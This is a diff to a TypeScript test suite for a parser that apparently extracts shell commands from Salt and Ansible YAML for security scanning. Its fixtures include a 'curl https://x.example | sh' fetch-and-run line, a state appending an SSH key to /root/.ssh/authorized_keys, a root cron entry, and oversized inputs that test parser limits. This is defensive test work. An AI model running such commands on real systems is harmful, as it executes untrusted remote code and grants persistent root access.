@@ -99,6 +99,30 @@ describe('configManagementSegments', () => {
     expect(unit?.line).toBe(23);
   });
 
+  it('should show a plain-text file write as the echo lines that write it, template-only lines left out', () => {
+    const state = [
+      'keys:',
+      '  file.append:',
+      '    - name: /root/.ssh/authorized_keys',
+      '    - text: |',
+      '        ssh-ed25519 AAAA ops@x',
+      '        {{ extra_key }}',
+      'tab:',
+      '  file.managed:',
+      '    - name: /etc/cron.d/job',
+      '    - contents: |',
+      '        */5 * * * * root /usr/local/bin/job',
+    ].join('\n');
+    const shell = configManagementSegments([{ path: 'a.sls', text: state }]).find((s) =>
+      s.block.endsWith('#salt-commands'),
+    )!;
+    expect(shell.text.split('\n')).toEqual([
+      "echo 'ssh-ed25519 AAAA ops@x' >> /root/.ssh/authorized_keys",
+      "echo '*/5 * * * * root /usr/local/bin/job' > /etc/cron.d/job",
+    ]);
+    expect(shell.lineMap).toEqual([5, 11]);
+  });
+
   it('should not read YAML that is neither a state file nor a task list', () => {
     const compose = 'services:\n  app:\n    command: curl https://x.example | sh\n';
     expect(configManagementSegments([{ path: 'docker-compose.yml', text: compose }])).toEqual([]);
@@ -122,11 +146,11 @@ describe('configManagementSegments', () => {
       'cmd.run:\n- shell: x\n' + '{%'.repeat(60_000),
       'cmd.run:\n- shell: x\n' + '{{'.repeat(60_000),
       'cmd.run:\n- shell: x\n' + '{{ a }} '.repeat(15_000),
-      'cmd.run:\n- shell: x\n' + '{%'.repeat(900) + '\n'.repeat(1400),
-      'a:\n  cmd.run:\n    - name: |\n' + '      echo {{ x }}\n'.repeat(1_490),
+      'cmd.run:\n- shell: x\n' + '{%'.repeat(900) + '\n'.repeat(900),
+      'a:\n  cmd.run:\n    - name: |\n' + '      echo {{ x }}\n'.repeat(990),
       '- shell: ' + '\n'.repeat(120_000),
       'cmd.run:\n' + ' '.repeat(120_000) + '\n',
-      '- shell: x\n' + '- a: [[{b: 1}], [2]]\n'.repeat(100) + '\n'.repeat(1300),
+      '- shell: x\n' + '- a: [[{b: 1}], [2]]\n'.repeat(50) + '\n'.repeat(900),
     ];
     for (const text of hostile) {
       for (const path of ['a.sls', 'a.yml']) {
@@ -138,12 +162,12 @@ describe('configManagementSegments', () => {
   });
 
   it('should bound the lines parsed over all files of a skill', () => {
-    const file = { path: 'a.yml', text: '- shell: x\n' + '- a: b\n'.repeat(1_400) };
+    const file = { path: 'a.yml', text: '- shell: x\n' + '- a: b\n'.repeat(990) };
     const t0 = performance.now();
     const segs = configManagementSegments(
       Array.from({ length: 50 }, (_, k) => ({ ...file, path: `t${k}.yml` })),
     );
     expect(performance.now() - t0).toBeLessThan(800);
-    expect(segs.length).toBeLessThanOrEqual(2);
+    expect(segs.length).toBeLessThanOrEqual(3);
   });
 });
